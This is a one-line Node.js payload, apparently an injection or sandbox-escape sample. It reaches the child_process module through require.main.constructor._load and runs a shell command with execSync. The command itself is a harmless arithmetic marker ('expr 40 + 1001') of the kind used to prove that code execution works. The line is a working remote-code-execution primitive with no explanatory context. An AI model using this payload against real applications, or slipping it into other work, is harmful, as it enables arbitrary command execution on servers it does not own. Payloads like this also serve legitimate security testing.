require.main.constructor._load('child_process').execSync('expr 40 + 1001',{stdio:'inherit'});
